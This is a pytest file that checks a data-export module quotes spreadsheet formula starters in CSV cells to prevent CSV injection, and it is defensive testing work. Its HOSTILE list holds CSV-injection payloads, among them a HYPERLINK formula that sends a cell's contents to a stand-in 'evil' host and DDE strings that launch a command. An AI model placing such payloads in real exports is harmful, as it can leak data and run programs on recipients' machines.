"""CSV exports are data, not formulas (OWASP, "CSV Injection"): a text cell a spreadsheet would run is quoted."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from marsad.export.cells import FORMULA_STARTS, safe_cell
from marsad.export.writers import export
from marsad.store.store import EventStore
from store.factories import make_doc, make_event, make_record

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["قصف", "Kafr Nabl", "", "1=1", "'=already quoted"])
def test_other_text_is_left_alone(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3.7) == -3.7 and safe_cell(-2) == -2 and safe_cell(None) is None


def test_acled_csv_neutralises_outlets_and_ids(tmp_path: Path) -> None:
    with EventStore.open(str(tmp_path / "x.db")) as store:
        for i, outlet in enumerate(HOSTILE):
            doc = make_doc(f"d{i}", f"قصف مدفعي على كفرنبل {i}", outlet=outlet)
            store.save(doc, make_record(doc, [make_event(doc.doc_id, day=f"2022-03-0{i + 1}")]), "0.1.0")
        out = io.BytesIO()
        export(store, "acled-csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"))))
    assert sorted(r["source"] for r in rows) == sorted("'" + o for o in HOSTILE)
    for row in rows:
        assert not any(isinstance(v, str) and v.startswith(FORMULA_STARTS) for v in row.values()), row
